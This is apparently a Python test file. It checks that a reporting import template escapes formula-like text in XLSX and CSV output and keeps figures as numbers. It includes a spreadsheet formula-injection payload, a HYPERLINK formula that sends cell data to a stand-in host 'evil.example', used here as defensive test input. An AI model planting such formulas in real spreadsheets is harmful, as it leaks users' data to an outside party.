"""The import template: text typed by people is never run as a formula; figures stay numbers."""

import csv
import io
from decimal import Decimal

from openpyxl import load_workbook

from lotrinh.reporting.importing.reading import DATA_SHEET, INSTRUCTIONS_SHEET
from lotrinh.reporting.importing.template import (
    TemplateField,
    TemplateRow,
    TemplateSpec,
    build_csv,
    build_xlsx,
)

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A2,"Xem")'
SPEC = TemplateSpec(
    regime_code="cds",
    regime_name="Chuyển đổi số",
    period_code="2025Q4",
    structure="2025",
    fields=[TemplateField("chenh_lech", HOSTILE, "@SUM(A1:A9) help")],
    rows=[TemplateRow("21553", "+xã mới", {"chenh_lech": Decimal("-3")})],
    instructions=["-bước 1"],
)


def test_the_xlsx_template_stores_formula_like_text_as_text_and_figures_as_numbers():
    book = load_workbook(io.BytesIO(build_xlsx(SPEC)))
    sheet = book[DATA_SHEET]
    name, figure = sheet.cell(2, 3), sheet.cell(3, 3)
    assert (name.value, name.data_type, name.quotePrefix) == (HOSTILE, "s", True)
    assert (sheet.cell(3, 2).value, sheet.cell(3, 2).quotePrefix) == ("+xã mới", True)
    assert (figure.value, figure.data_type) == (-3, "n")
    guide = [cell for row in book[INSTRUCTIONS_SHEET].iter_rows() for cell in row if cell.value]
    assert all(c.data_type == "s" for c in guide if str(c.value)[0] in "=+-@")


def test_the_csv_template_quotes_formula_like_text_and_keeps_figures():
    lines = list(csv.reader(io.StringIO(build_csv(SPEC))))
    assert lines[2][2] == "'" + HOSTILE
    assert lines[3] == ["21553", "'+xã mới", "-3"]
